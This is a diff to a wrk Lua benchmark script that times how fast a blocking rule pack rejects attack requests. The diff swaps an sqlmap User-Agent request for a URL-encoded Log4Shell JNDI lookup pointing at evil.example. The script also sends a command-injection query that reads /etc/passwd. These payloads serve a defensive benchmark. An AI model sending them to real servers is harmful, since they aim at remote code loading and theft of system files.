@@ -1,6 +1,6 @@
 -- Only attacks the default pack blocks
--- (SQL injection, XSS, path traversal, command injection, a scanner's
--- User-Agent), in turn: the latency of a local block decision. Requests are
+-- (SQL injection, XSS, path traversal, command injection,
+-- Log4Shell), in turn: the latency of a local block decision. Requests are
 -- formatted once in init, so wrk's Lua costs the same for every setup.
 local H = { ["Host"] = "localhost", ["User-Agent"] = "peers-bench/1.0", ["Accept"] = "application/json" }
 local attacks = {}
@@ -14,8 +14,9 @@ init = function(args)
     "/?host=127.0.0.1%3Bcat%20/etc/passwd",
   }
   for _, p in ipairs(paths) do attacks[#attacks + 1] = wrk.format("GET", p, H) end
-  local scanner = { ["Host"] = "localhost", ["User-Agent"] = "sqlmap/1.7.2#stable (https://sqlmap.org)", ["Accept"] = "*/*" }
-  attacks[#attacks + 1] = wrk.format("GET", "/", scanner)
+  -- Only attacks the pack blocks at once: scanner User-Agents are tarpitted
+  -- (held 5 s), which would measure the tarpit, not the decision.
+  attacks[#attacks + 1] = wrk.format("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", H)
 end
 
 request = function()
